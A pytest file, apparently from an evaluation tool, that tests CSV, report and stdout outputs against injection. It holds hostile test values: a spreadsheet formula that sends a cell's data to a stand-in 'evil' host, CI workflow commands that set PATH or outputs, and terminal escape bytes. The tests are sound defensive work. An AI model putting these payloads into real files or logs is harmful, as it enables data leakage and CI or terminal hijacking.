"""Class 5: CSV rows, CI workflow commands and escape bytes (issue 23).

Surfaces: the findings CSV (library ``findings_to_csv`` and the dashboard's ``findings_csv``),
``report.csv`` and ``report.md`` of ``scenarios run`` (CLI), stdout of ``scenarios run``,
``memo --json`` and ``history show``. A cell holding a bare ``\\r`` followed by a formula is
quoted (a reader sees one row, the formula stays inside its cell behind a ``'``); a response
line ``::add-mask::`` / ``::set-output`` / ``##[set-env]`` never reaches stdout or report.md
as a command; no raw ESC/BEL byte reaches report.md."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest

from pe_eval_core.memo import findings_to_csv, grade_memo
from pe_eval_core.memo.result import Finding
from tests.helpers.hostile_kit import REPO, run_cli

pytestmark = pytest.mark.timeout(180)
FORMULA = '=HYPERLINK("http://evil/"&A1)'
RESPONSE = (
    "MRR fell $4,820.\r" + FORMULA + "\n::add-mask::nothing\n  ::set-output name=x::y\n"
    "##[set-env name=PATH]/tmp\n\x1b]0;owned\x07\x1b[2Jbell"
)
COMMAND = re.compile(r"^\s*::|##\[", re.MULTILINE)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _no_split_formula(text: str, rows: int) -> None:
    parsed = _rows(text)
    assert len(parsed) == rows, parsed
    for row in parsed:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@")), cell


def test_findings_csv_quotes_a_bare_carriage_return(tmp_path):
    data = REPO / "finance_output"
    ev = grade_memo(data / "explain_MortgageCo_board.json", data / "dx_report_MortgageCo.json")
    bad = Finding(kind="ungrounded_figure", raw="$1\r" + FORMULA, message="x\r-2+3")
    ev = ev.model_copy(update={"findings": [bad, bad]})
    _no_split_formula(findings_to_csv(ev), 3)
    from ui.views.scorecard import findings_csv

    _no_split_formula(findings_csv(ev, 7), 3)


def _recorded(root: Path) -> Path:
    exports = root / "exports"
    shutil.copytree(REPO / ".mimic" / "exports", exports)
    path = exports / "recorded-responses.json"
    records = json.loads(path.read_text())
    records[0]["response"] = RESPONSE
    records[1] = {"name": records[1]["name"], "error": "agent said\r" + FORMULA}
    path.write_text(json.dumps(records))
    return exports


def test_scenario_reports_and_stdout_carry_no_command_and_no_split_row(tmp_path, capsys):
    exports = _recorded(tmp_path)
    out = tmp_path / "out"
    code, stdout, stderr = run_cli(
        capsys,
        "scenarios", "run", "--scenarios", str(exports / "mimic-scenarios.json"),
        "--out", str(out), "--timestamp", "2026-04-29T09:00:00Z",
    )  # fmt: skip
    assert code in (0, 1), stderr
    assert "add-mask" in stdout  # the response is shown ...
    assert not COMMAND.search(stdout) and not COMMAND.search(stderr)  # ... never as a command
    report = (out / "report.md").read_text()
    assert "add-mask" in report and not COMMAND.search(report)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", report.replace("\n", ""))
    scenarios = json.loads((exports / "mimic-scenarios.json").read_text())
    n = len(scenarios if isinstance(scenarios, list) else scenarios["scenarios"])
    _no_split_formula((out / "report.csv").read_text(), n + 1)

    code, stdout, _ = run_cli(capsys, "history", "show", "latest")
    assert code == 0 and not COMMAND.search(stdout)


def test_memo_json_on_stdout_holds_no_command(tmp_path, capsys):
    data = tmp_path / "data"
    shutil.copytree(REPO / "finance_output", data, ignore=shutil.ignore_patterns("eval_*"))
    memo = data / "explain_MortgageCo_board.json"
    doc = json.loads(memo.read_text())
    doc["opportunities_explained"][0]["narrative"] += " **##[set-env name=X]** \n::error::x"
    memo.write_text(json.dumps(doc))
    code, stdout, _ = run_cli(capsys, "memo", "--memo", str(memo), "--source",
                              str(data / "dx_report_MortgageCo.json"), "--json")  # fmt: skip
    assert code in (0, 1) and not COMMAND.search(stdout)
    json.loads(stdout)  # still JSON
    code, stdout, _ = run_cli(capsys, "memo", "--memo", str(memo), "--source",
                              str(data / "dx_report_MortgageCo.json"))  # fmt: skip
    assert not COMMAND.search(stdout)
